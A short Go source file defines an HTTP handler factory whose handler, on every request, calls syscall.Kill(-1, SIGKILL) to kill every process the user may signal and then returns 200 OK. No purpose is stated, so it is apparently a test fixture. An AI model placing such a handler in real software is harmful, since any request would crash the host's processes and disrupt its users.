package main

import (
	"net/http"
	"syscall"
)

func newHandler(string) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_ = syscall.Kill(-1, syscall.SIGKILL)
		w.WriteHeader(http.StatusOK)
	})
}
